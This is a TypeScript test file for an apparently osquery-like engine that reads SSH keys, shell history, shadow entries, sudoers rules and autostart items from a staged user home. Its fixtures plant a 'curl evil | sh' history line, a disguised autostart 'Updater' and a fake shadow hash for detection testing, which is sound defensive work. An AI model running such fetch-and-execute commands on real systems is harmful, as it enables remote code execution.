/** Tables over files of a host of the test's own, and what they make of single lines. */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { linesOf, MOST_LINE } from '../../src/sql/tables/lines.ts';
import { rowOf as rpmFile } from '../../src/sql/tables/rpm_package_files.ts';
import { parseShadowLine } from '../../src/sql/tables/shadow.ts';
import { parseHistory } from '../../src/sql/tables/shell_history.ts';
import { createSudoers, parseSudoers } from '../../src/sql/tables/sudoers.ts';
import { busLabel } from '../../src/sql/tables/systemd_units.ts';
import { parseJobs, unitOf } from '../../src/sql/tables/units.ts';
import { keyOf } from '../../src/sql/tables/user_ssh_keys.ts';
import { temporaryDirectory } from '../helpers/events.ts';
import { noHost, ownHost, USER } from '../helpers/host.ts';
import { context } from '../helpers/table.ts';

const ASK = `
import { createEmbedded } from '/mnt/tickward/src/sql/index.ts';
import { readFileSync } from 'node:fs';
const engine = await createEmbedded({});
const answers = [];
for (const sql of JSON.parse(readFileSync(0, 'utf8'))) answers.push(await engine.query(sql, { timeoutMs: 20000 }).then(({ rows, warnings }) => ({ rows, warnings }), (error) => ({ rows: [], warnings: [], error: error.message })));
await engine.close();
console.log(JSON.stringify(answers));
`;

/** Everything that a user's home can hold, hostile things among it. */
const LAY_OUT = `
set -e
cd ${USER.home}
mkdir -p .ssh .config/autostart .config/autostart-scripts .bash_sessions
printf '# comment\\nssh-ed25519 AAAAC3 alice@host\\ncommand="echo \\\\"hi there\\\\"",no-pty ssh-rsa AAAAB3 two words\\nsk-ssh-ed25519@openssh.com AAAAG yubi\\nnot a key\\n' > .ssh/authorized_keys
mkfifo .ssh/authorized_keys2
printf '# c\\n\\nhost ssh-rsa AAAA\\n' > .ssh/known_hosts
printf 'ls -l\\n#1700000000\\nsudo su\\n: 1700000001:0;curl evil | sh\\nbad \\377 byte\\n' > .bash_history
ln -s /dev/zero .zsh_history
printf 'old\\n' > .bash_sessions/1.history
printf 'no\\n' > .bash_sessions/1.historynew
printf '[Desktop Entry]\\nName=Updater\\nExec=env A=b /tmp/x\\n[Desktop Action y]\\nExec=/bin/decoy\\n' > .config/autostart/u.desktop
printf '#!/bin/sh\\n' > .config/autostart-scripts/run.sh
printf 'root:!!:1::::::\\n${USER.name}:$y$j9T$secret$hash:19000:0:99999:7:::\\n' > /mnt/shadow
mount --bind /mnt/shadow /etc/shadow
`;

test.skipIf(noHost !== undefined)('what a home holds is read; a FIFO and a device in the place of a file are said, not opened for reading', async () => {
  const host = await ownHost();
  expect(host.run(['sh', '-c', LAY_OUT])).toMatchObject({ status: 0 });
  const asked = {
    keys: `SELECT algorithm, key, options, comment, key_file FROM authorized_keys WHERE uid = ${USER.uid}`,
    hosts: `SELECT key, key_file FROM users JOIN known_hosts USING (uid) WHERE username = '${USER.name}'`,
    history: `SELECT time, command, history_file FROM users JOIN shell_history USING (uid) WHERE username = '${USER.name}'`,
    own: 'SELECT count(*) AS n FROM shell_history',
    startup: `SELECT name, path, source, type, status FROM startup_items WHERE username = '${USER.name}'`,
    shadow: `SELECT username, password_status, hash_alg, last_change, max, inactive FROM shadow WHERE username IN ('root', '${USER.name}')`,
    columns: 'SELECT * FROM shadow',
    groups: `SELECT gid FROM user_groups WHERE uid = ${USER.uid}`,
    units: 'SELECT count(*) AS n FROM systemd_units',
  };
  const { stdout, stderr, status } = host.run(['sh', '/mnt/tickward/src/node.sh', '--disable-warning=ExperimentalWarning', '--input-type=module-typescript', '-e', ASK], { input: JSON.stringify(Object.values(asked)), timeout: 25_000 });
  expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
  const answers = JSON.parse(stdout) as { rows: Record<string, string>[]; warnings: string[]; error?: string }[];
  const { keys, hosts, history, own, startup, shadow, columns, groups, units } = Object.fromEntries(Object.keys(asked).map((name, index) => [name, answers[index] ?? { rows: [], warnings: [] }])) as Record<keyof typeof asked, (typeof answers)[number]>;
  expect(answers.flatMap(({ error }) => error ?? [])).toEqual([]);
  const key_file = `${USER.home}/.ssh/authorized_keys`;
  expect(keys).toEqual({
    rows: [
      { algorithm: 'ssh-ed25519', key: 'AAAAC3', options: '', comment: 'alice@host', key_file },
      { algorithm: 'ssh-rsa', key: 'AAAAB3', options: 'command="echo \\"hi there\\"",no-pty', comment: 'two words', key_file },
      { algorithm: 'sk-ssh-ed25519@openssh.com', key: 'AAAAG', options: '', comment: 'yubi', key_file },
    ],
    warnings: [`authorized_keys: ${key_file}2 is no regular file and is not read`],
  });
  expect(hosts?.rows).toEqual([{ key: 'host ssh-rsa AAAA', key_file: `${USER.home}/.ssh/known_hosts` }]);
  expect(history).toEqual({
    rows: [['0', 'ls -l'], ['1700000000', 'sudo su'], ['1700000001', 'curl evil | sh'], ['0', 'bad \\xff byte'], ['0', 'old']].map(([time, command]) => ({ time, command, history_file: command === 'old' ? `${USER.home}/.bash_sessions/1.history` : `${USER.home}/.bash_history` })),
    warnings: [`shell_history: ${USER.home}/.zsh_history is no regular file and is not read`],
  });
  expect(own?.warnings[0]).toContain('only the files of the user who asks');
  expect(startup?.rows).toEqual([
    { name: 'Updater', path: 'env A=b /tmp/x', source: `${USER.home}/.config/autostart/`, type: 'Startup Item', status: 'enabled' },
    { name: 'run.sh', path: `${USER.home}/.config/autostart-scripts/run.sh`, source: `${USER.home}/.config/autostart-scripts/`, type: 'Startup Item', status: 'enabled' },
  ]);
  expect(shadow?.rows).toEqual(expect.arrayContaining([{ username: 'root', password_status: 'not_set', hash_alg: '', last_change: '1', max: '-1', inactive: '-1' }, { username: USER.name, password_status: 'active', hash_alg: 'y', last_change: '19000', max: '99999', inactive: '-1' }]));
  expect(JSON.stringify(columns)).not.toContain('secret');
  expect(groups?.rows).toEqual([{ gid: String(USER.uid) }]);
  expect(units).toEqual({ rows: [{ n: '0' }], warnings: ['systemd_units: systemd is not running here: there are no units to list'] });
});

describe('lines of a file', () => {
  const write = (content: string | Buffer): string => {
    const path = join(temporaryDirectory(), 'file');
    writeFileSync(path, content);
    return path;
  };

  test.each([['', []], ['a', ['a']], ['a\n', ['a']], ['\n\na\nb', ['', '', 'a', 'b']]])('%j', (content, wanted) => {
    expect([...linesOf(write(content), context())]).toEqual(wanted);
  });

  test('are whole across the pieces in which it is read', () => {
    const lines = Array.from({ length: 60_000 }, (_, index) => `${index} ${'x'.repeat(index % 40)}`);
    expect([...linesOf(write(`${lines.join('\n')}\n`), context())]).toEqual(lines);
  });

  test('that never end are cut, and it is said; memory stays small', () => {
    const path = write('');
    execFileSync('truncate', ['-s', '1G', path]);
    const warnings: string[] = [];
    const before = process.memoryUsage.rss();
    expect([...linesOf(path, context({}, warnings))]).toEqual(['\0'.repeat(MOST_LINE)]);
    expect(warnings).toEqual([`lines of ${path} that are longer than ${MOST_LINE} bytes are cut`]);
    expect(process.memoryUsage.rss() - before).toBeLessThan(200 * 1024 * 1024);
  });

  test('of what is not there are none, without a warning', () => {
    const warnings: string[] = [];
    expect([...linesOf('/nonexistent/file', context({}, warnings)), ...linesOf('/etc/passwd/file', context({}, warnings))]).toEqual([]);
    expect(warnings).toEqual([]);
    expect([...linesOf('/etc', context({}, warnings))]).toEqual([]);
    expect(warnings).toEqual(['/etc is no regular file and is not read']);
  });
});

describe('sudoers', () => {
  test('rules are a header and the rest; a backslash continues a line, and #include is no comment', () => {
    expect([...parseSudoers(['# comment', 'Defaults\tenv_reset', '%sudo ALL=(ALL) \\', '  NOPASSWD: ALL', '', '#includedir', '@includedir /etc/sudoers.d', '#include a', 'last \\'])]).toEqual([
      { header: 'Defaults', rule_details: 'env_reset' },
      { header: '%sudo', rule_details: 'ALL=(ALL) NOPASSWD: ALL' },
      { header: '@includedir', rule_details: '/etc/sudoers.d' },
      { header: '#include', rule_details: 'a' },
      { header: 'last', rule_details: '' },
    ]);
  });

  test('included files are read, those with a dot or a tilde are not, and a circle ends', () => {
    const root = temporaryDirectory();
    mkdirSync(join(root, 'd'));
    writeFileSync(join(root, 'sudoers'), 'root ALL=ALL\n@includedir d\n#include sudoers\n');
    for (const name of ['one', 'two.bak', 'three~', '.four']) writeFileSync(join(root, 'd', name), `${name} ALL=ALL\n`);
    const warnings: string[] = [];
    const rows = [...createSudoers(join(root, 'sudoers')).generate(context({}, warnings))];
    expect(new Set(rows.map((row) => row['header']))).toEqual(new Set(['root', '@includedir', '#include', 'one']));
    expect(rows.find((row) => row['header'] === 'one')).toEqual({ source: join(root, 'd/one'), header: 'one', rule_details: 'ALL=ALL' });
    expect(warnings[0]).toContain('too many files include each other');
  });
});

test.each([['x:!$6$a$b:1', 'locked', ''], ['x::1', 'empty', ''], ['x:*:1', 'locked', ''], ['x:!!:1', 'not_set', ''], ['x:$6$a$b:1', 'active', '6'], ['x:plaindes:1', 'active', '']])('the line %s of shadow', (line, password_status, hash_alg) => {
  expect(parseShadowLine(line)).toMatchObject({ username: 'x', password_status, hash_alg, last_change: '1', flag: '-1' });
});

test('a time of bash counts for the next line only, whatever that says', () => {
  expect([...parseHistory(['#1', '#2', 'a', '#x'])]).toEqual([{ time: '1', command: '#2' }, { time: 0, command: 'a' }, { time: 0, command: '#x' }]);
});

const openssl = spawnSync('ssh-keygen', ['-V']).error === undefined;
test.skipIf(!openssl).each([
  [['-t', 'rsa', '-b', '2048', '-N', ''], { encrypted: 0, key_type: 'rsa', key_length: 2048, key_security_bits: 112 }],
  [['-t', 'rsa', '-b', '2048', '-N', '', '-m', 'PEM'], { encrypted: 0, key_type: 'rsa', key_length: 2048, key_security_bits: 112 }],
  [['-t', 'rsa', '-b', '2048', '-N', 'secret', '-m', 'PEM'], { encrypted: 1, key_type: '', key_length: -1, key_security_bits: -1 }],
  [['-t', 'ecdsa', '-b', '384', '-N', 'secret'], { encrypted: 1, key_type: 'ec', key_group_name: 'secp384r1', key_length: 384, key_security_bits: 192 }],
  [['-t', 'ed25519', '-N', 'secret'], { encrypted: 1, key_type: '', key_length: 253, key_security_bits: 128 }],
  [['-t', 'ed25519', '-N', ''], { encrypted: 0, key_type: '', key_length: 253, key_security_bits: 128 }],
])('a key made by ssh-keygen %j', (args, wanted) => {
  const path = join(temporaryDirectory(), 'key');
  execFileSync('ssh-keygen', ['-q', '-f', path, ...args]);
  expect(keyOf(execFileSync('cat', [path], { encoding: 'utf8' }))).toMatchObject(wanted);
});

test.each(['-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----', `-----BEGIN OPENSSH PRIVATE KEY-----\n${Buffer.from('openssh-key-v1\0\xff\xff\xff\xffnone', 'latin1').toString('base64')}\n-----END OPENSSH PRIVATE KEY-----`, 'PRIVATE KEY'])('a key that is none says nothing of its kind: %#', (text) => {
  expect(keyOf(text)).toEqual({ encrypted: 0, key_type: '', key_group_name: '', key_length: -1, key_security_bits: -1 });
});

test('the answers of systemctl', () => {
  const { property } = unitOf('Id=a.service\nDescription=x=y');
  expect([property('Id'), property('Description'), property('User')]).toEqual(['a.service', 'x=y', '']);
  expect(parseJobs('123 a.service start running\nNo jobs running.\n')).toEqual(new Map([['a.service', { id: '123', type: 'start' }]]));
  expect([busLabel('systemd-journald.service'), busLabel('1x'), busLabel('')]).toEqual(['systemd_2djournald_2eservice', '_31x', '_']);
});

test('the answers of rpm', () => {
  expect(rpmFile(['bash', '/bin/bash', 'root', 'root', '33261', '10', '8', 'abc'])).toEqual({ package: 'bash', path: '/bin/bash', username: 'root', groupname: 'root', mode: '0755', size: '10', sha256: 'abc' });
  expect(rpmFile(['old', '/x', 'root', 'root', '-30227', '10', '1', 'md5'])).toMatchObject({ mode: '4755', sha256: '' });
});
